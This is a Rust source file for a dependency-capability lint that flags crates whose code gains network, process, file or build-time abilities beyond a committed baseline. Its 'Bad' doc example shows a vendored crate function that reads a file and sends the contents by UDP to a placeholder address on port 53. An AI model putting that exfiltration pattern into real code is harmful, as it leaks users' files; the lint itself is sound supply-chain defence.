//! # Dependency that can do more than was agreed
//!
//! ## What it checks
//! Every dependency, against `cra-capabilities.toml`, when the workspace has that file: whether its sources do something
//! that the file does not list for it. `cargo cra list dependencies` shows what they do, and with `--write-baseline`
//! writes the file. The words in it: `network` (opens connections or waits for some), `process` (starts programs),
//! `file` (opens, lists or changes files), `environment` (reads or changes variables of the process), `ffi` (functions
//! of another language), `native-code` (code in another language, assembly, or a manifest that says `links`),
//! `build-script`, `proc-macro`; and, for what the build script or the macro itself does while the product is built,
//! `build-network`, `build-process`, `build-file` (outside of `OUT_DIR`) and `build-environment` (variables that cargo
//! does not set).
//!
//! ## Why it matters
//! A parser that suddenly opens a socket, or a build script that begins to start programs, is how a stolen account or a
//! package with a new owner shows, days before there is an advisory. A version number alone does not tell.
//!
//! ## Bad
//! ```toml Cargo.toml
//! [package]
//! name = "example"
//! version = "0.1.0"
//! edition = "2024"
//! [dependencies]
//! wick = "1"
//! ```
//! ```toml Cargo.lock
//! version = 4
//! [[package]]
//! name = "example"
//! version = "0.1.0"
//! dependencies = ["wick"]
//! [[package]]
//! name = "wick"
//! version = "1.0.1"
//! source = "registry+https://github.com/rust-lang/crates.io-index"
//! ```
//! ```toml cra-capabilities.toml
//! [dependencies]
//! wick = ["file"]
//! ```
//! ```toml vendor/wick/Cargo.toml
//! [package]
//! name = "wick"
//! version = "1.0.1"
//! edition = "2024"
//! ```
//! ```rust vendor/wick/src/lib.rs
//! pub fn light(path: &str) {
//!     if let Ok(text) = std::fs::read(path) {
//!         let _ = std::net::UdpSocket::bind("0.0.0.0:0").map(|socket| socket.send_to(&text, "192.0.2.1:53"));
//!     }
//! }
//! ```
//!
//! ## Good
//! ```toml Cargo.toml
//! [package]
//! name = "example"
//! version = "0.1.0"
//! edition = "2024"
//! [dependencies]
//! wick = "1"
//! ```
//! ```toml Cargo.lock
//! version = 4
//! [[package]]
//! name = "example"
//! version = "0.1.0"
//! dependencies = ["wick"]
//! [[package]]
//! name = "wick"
//! version = "1.0.1"
//! source = "registry+https://github.com/rust-lang/crates.io-index"
//! ```
//! ```toml cra-capabilities.toml
//! [dependencies]
//! wick = ["file"]
//! ```
//! ```toml vendor/wick/Cargo.toml
//! [package]
//! name = "wick"
//! version = "1.0.1"
//! edition = "2024"
//! ```
//! ```rust vendor/wick/src/lib.rs
//! pub fn light(path: &str) -> bool {
//!     std::fs::read(path).is_ok()
//! }
//! ```
//!
//! ## Limits
//! Paths are followed through `use` lines, types are not: `path.exists()` or `stream.reconnect()` are not seen, nor what
//! a package has another one do for it, nor names that macros put together, nor code that is made at build time. Code
//! counts whatever features and platforms it is for, so a finding may be about code that this product never compiles.
//! All versions of a package share one entry. A package that hides what it does can hide it from this lint.

use crate::capabilities::{Baseline, FILE};
use crate::model::graph::Reached;
use crate::prelude::*;
use crate::snapshot::{AbleDependency, Capability, FileKind, Lock, Role};

pub(crate) static LINT: Lint = Lint {
    level: Level::Warn,
    since: "0.1.0",
    requirements: &[&I_2_J, &II_1],
    cwe: &[829, 506],
    tests: false,
    check: &[Check::Workspace(check)],
};

fn check(model: &Model<'_>, out: &mut Findings<'_>) {
    let mut files = model.files.iter();
    let Some(file) = files.find(|file| file.kind == FileKind::Capabilities) else {
        // Nothing was agreed, so nothing can be new.
        return out.covered(coverage(0, 0, 0));
    };
    let reached = model.reached();
    let baseline = match Baseline::parse(&file.text) {
        Ok(baseline) => baseline,
        Err((words, span)) => {
            out.covered(coverage(0, reached.len(), 0));
            let place = Place {
                file: file.id,
                span,
            };
            out.report(place, format!("`{FILE}` cannot be read: {words}"))
                .why("what the dependencies may do is then compared with nothing")
                .help(format!("repair it, or write it anew with {WRITE}"));
            return;
        }
    };
    let able = model.snapshot.capabilities.as_deref().unwrap_or_default();
    let Some(lock) = &model.snapshot.lock else {
        return out.covered(coverage(0, 0, 0));
    };
    let (mut known, mut unread) = (0, 0);
    for one in &reached {
        let package = &lock.packages[one.package];
        let version = package.version.to_string();
        let mut able = able.iter();
        let Some(able) = able.find(|able| able.name == package.name && able.version == version)
        else {
            continue;
        };
        known += 1;
        unread += usize::from(able.abilities.unread > 0);
        let entry = baseline.entries.get(&package.name);
        let can = able.abilities.can.iter().copied();
        let new: Vec<Capability> = can
            .filter(|can| entry.is_none_or(|entry| !entry.can.contains(can)))
            .collect();
        if !new.is_empty() {
            let entry = entry.map(|entry| Place {
                file: file.id,
                span: entry.span,
            });
            report(lock, one, able, &new, entry, out);
        }
    }
    out.covered(coverage(known, reached.len(), unread));
}

/// How the file is written.
const WRITE: &str = "`cargo cra list dependencies --write-baseline`";

fn coverage(known: usize, of: usize, unread: usize) -> Coverage {
    let mut missed = Vec::new();
    if known < of {
        let words = "dependencies whose sources were not read";
        missed.push((of - known, words.to_owned()));
    }
    if unread > 0 {
        let words = "dependencies with code that is made at build time or could not be parsed";
        missed.push((unread, words.to_owned()));
    }
    Coverage {
        unit: "dependencies",
        looked_at: known,
        of,
        missed,
    }
}

fn report(
    lock: &Lock,
    reached: &Reached,
    able: &AbleDependency,
    new: &[Capability],
    entry: Option<Place>,
    out: &mut Findings<'_>,
) {
    let (name, version) = (&able.name, &able.version);
    let words: Vec<String> = new.iter().map(|can| format!("`{}`", can.word())).collect();
    let says: Vec<&str> = new.iter().map(|can| can.says()).collect();
    let locked = Place {
        file: lock.file,
        span: lock.packages[reached.package].span,
    };
    let what = match entry {
        Some(_) => format!(
            "`{name}` {version} can do more than was agreed: {}",
            words.join(", ")
        ),
        None => format!(
            "`{name}` {version} can do something, and nothing was agreed for it: {}",
            words.join(", ")
        ),
    };
    let why = format!("it {}; {}", says.join(" and "), reached.way(lock));
    let help = format!(
        "find out what that is for, in the difference to the version before; then either go back with `cargo update -p {} --precise …`, or agree with {WRITE} and commit the file",
        lock.spec(reached.package)
    );
    let filed = out
        .report(entry.unwrap_or(locked), what)
        .why(why)
        .help(help);
    let apart = matches!(
        reached.role,
        Some(Role::Tests | Role::OtherPlatform(_) | Role::Elsewhere)
    );
    let filed = if apart {
        filed.at_most(Level::Note)
    } else {
        filed
    };
    if entry.is_some() {
        let _ = filed.related(locked, "locked here");
    }
}
